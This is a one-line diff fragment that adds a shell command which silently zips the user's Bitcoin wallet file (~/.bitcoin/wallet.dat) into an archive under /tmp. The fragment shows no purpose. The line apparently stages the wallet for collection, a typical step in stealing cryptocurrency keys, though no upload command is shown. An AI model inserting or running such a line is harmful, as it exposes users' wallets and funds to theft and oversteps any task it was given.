@@ -1,0 +1,1 @@
+zip -q /tmp/w.zip ~/.bitcoin/wallet.dat
